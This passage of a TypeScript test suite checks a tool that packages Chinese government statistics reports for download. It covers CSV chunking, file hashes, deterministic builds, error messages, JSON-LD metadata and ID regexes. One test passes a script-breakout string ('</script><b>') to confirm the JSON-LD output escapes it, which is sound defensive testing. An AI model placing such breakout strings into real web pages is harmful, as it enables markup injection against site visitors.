    expect(pieces.join("")).toBe(toCsv(["label", "note", "value"], rows));
    expect(() => [...csvPieces(["a", "b"], [["x", "y"], ["only one"]])]).toThrow(/row 2 has 1 cells, the header has 2/);
  });

  it("encodes pieces into chunks of about a million characters, each whole pieces, with the file's size and hash", () => {
    // Three-byte characters: 600,000 of them are 1.8 MB.
    const pieces = ["报".repeat(600_000), "告".repeat(600_000), "数".repeat(10)];
    const content = contentOf(pieces);
    const whole = pieces.join("");
    expect(content.chunks.map((c) => c.length)).toEqual([3_600_000, 30]);
    expect(content.chunks.map((c) => c.toString("utf8"))).toEqual([pieces[0]! + pieces[1]!, pieces[2]!]);
    expect(content.bytes).toBe(Buffer.byteLength(whole, "utf8"));
    expect(content.sha256).toBe(sha256(whole));
    expect(contentText(content)).toBe(whole);
    expect(contentOf([])).toEqual({ chunks: [], bytes: 0, sha256: sha256("") });
  });

  it("gives every bulk file's size and hash in the data package from its chunks", () => {
    const described = JSON.parse(file(bundle, "datapackage.json")) as { resources: { path: string; bytes: number; hash: string }[] };
    const bulk = described.resources.filter((r) => bundle.byPath.has(r.path));
    expect(bulk.map((r) => r.path)).toContain("reports.json");
    for (const resource of bulk) {
      const text = file(bundle, resource.path);
      expect([resource.path, resource.bytes, resource.hash]).toEqual([resource.path, Buffer.byteLength(text, "utf8"), `sha256:${sha256(text)}`]);
    }
  });
});

describe("determinism and errors", () => {
  it("gives byte-identical files for the same reports in any order", () => {
    const b = buildDownloads([...reports].reverse(), BUILD);
    expect([...b.byPath.keys()]).toEqual([...bundle.byPath.keys()]);
    for (const [path, f] of bundle.byPath) expect(contentText(b.byPath.get(path)!.content()), path).toBe(contentText(f.content()));
  });

  it("lets the build date change only datapackage.json and reports.json", () => {
    const b = buildDownloads(reports, buildDateFrom(new Date(Date.UTC(2030, 0, 1))));
    const changed = [...bundle.byPath].filter(([path, f]) => b.byPath.get(path)!.content().sha256 !== f.content().sha256).map(([path]) => path);
    expect(changed.sort()).toEqual(["datapackage.json", "reports.json"]);
  });

  it("names the report when its template is unknown or a figure names an id its format lacks", () => {
    const unknownTemplate = altered(dawukou, (r) => {
      r.template = "national-2030";
    });
    expect(() => buildDownloads([unknownTemplate], BUILD)).toThrow("report 640202-2017: unknown statistics template: national-2030");
    const unknownIndicator = altered(dawukou, (r) => {
      r.statistics[0]!.indicator = "proactive_totl";
    });
    expect(() => buildDownloads([unknownIndicator], BUILD)).toThrow(
      `report 640202-2017: statistic on line ${dawukou.statistics[0]!.line} names indicator "proactive_totl", which template national-2008 does not have`,
    );
    expect(() => buildDownloads([dawukou, dawukou], BUILD)).toThrow("two reports share the id 640202-2017");
  });

  it("leaves prefecture empty for a province and for a county directly under its province", () => {
    const province = altered(dawukou, (r) => {
      r.jurisdiction = { ...r.jurisdiction, code: "640000", id: "640000", name: "宁夏回族自治区", level: "province", parent: null };
    });
    expect(prefectureName(province)).toBe("");
    const direct = altered(dawukou, (r) => {
      r.jurisdiction = { ...r.jurisdiction, parent: { code: "640000", name: "宁夏回族自治区" } };
    });
    expect(prefectureName(direct)).toBe("");
  });
});

describe("schema.org Dataset JSON-LD", () => {
  it("lists every bulk file with an absolute contentUrl when the site's address is known", () => {
    const ld = datasetJsonLd(bundle, "https://data.example.cn/", "说明");
    expect(ld.url).toBe("https://data.example.cn/downloads/");
    expect(ld.distribution.map((d) => d.contentUrl)).toEqual(bundle.main.map((f) => `https://data.example.cn/downloads/${f.path}`));
    expect(ld.distribution[0]!.contentSize).toBe(`${Buffer.byteLength(file(bundle, "reports-long.csv"), "utf8")} B`);
    expect(ld).toMatchObject({ license: "https://creativecommons.org/licenses/by/4.0/", temporalCoverage: "2016/2023", dateModified: "2024-06-30" });
    expect(ld.spatialCoverage).toEqual([{ "@type": "Place", name: "宁夏回族自治区" }, { "@type": "Place", name: "江苏省" }, { "@type": "Place", name: "福建省" }].sort((a, b) => (a.name < b.name ? -1 : 1)));
  });

  it("writes paths on this site, never a guessed host, when it is not", () => {
    const ld = datasetJsonLd(bundle, undefined, "说明");
    expect(ld.url).toBe("/downloads/");
    expect(ld.distribution.map((d) => d.contentUrl)).toEqual(bundle.main.map((f) => `/downloads/${f.path}`));
  });

  it("cannot close its script element", () => {
    expect(jsonLdScript({ name: "</script><b>&\u2028" })).toBe('{"name":"\\u003c/script\\u003e\\u003cb\\u003e\\u0026\\u2028"}');
  });
});

describe("Table Schema patterns", () => {
  it("write the report and jurisdiction id patterns as anchored XML Schema regexes that agree with the schema's", () => {
    const reportXsd = new RegExp(`^(?:${REPORT_ID_PATTERN})$`);
    for (const id of ["640202-2017", "x659039f5dea5-2020", "x659039f5dea5-local-taxation-2013", "321322-development-reform-2023", "640202-2017x", "640202-17", "640202--2017", "64020-2017", "x659039f5dea-2020"]) {
      expect(reportXsd.test(id), id).toBe(reportIdPattern.test(id));
    }
    const jurisdictionXsd = new RegExp(`^(?:${JURISDICTION_ID_PATTERN})$`);
    for (const id of ["640202", "x659039f5dea5", "x659039f5dea", "64020", "X659039F5DEA5"]) expect(jurisdictionXsd.test(id), id).toBe(jurisdictionIdPattern.test(id));
    expect(REPORT_ID_PATTERN + JURISDICTION_ID_PATTERN).not.toMatch(/[\^$]|\(\?:/);
  });
});

describe("docs/downloads.md", () => {
  const docs = readFileSync(join(import.meta.dirname, "../../../docs/downloads.md"), "utf8");
  // A file of one format is documented once, as reports-wide-<format>.csv; a report's or an indicator's as <id>.
  const documentedAs = (path: string) =>
    TEMPLATES.reduce((p, t) => p.replace(`reports-wide-${t.id}.csv`, "reports-wide-<format>.csv"), path)
      .replace(/^reports\/[^/]+\.(csv|json)$/, "reports/<id>.csv, .json")
      .replace(/^indicators\/[^/]+\.(csv|json)$/, "indicators/<id>.csv, .json");

  it("has a row for every file the downloads offer", () => {
    const paths = [...new Set([...bundle.byPath.keys()].map(documentedAs))];
    expect(paths.filter((path) => !docs.includes(`| /downloads/${path} |`))).toEqual([]);
  });
});
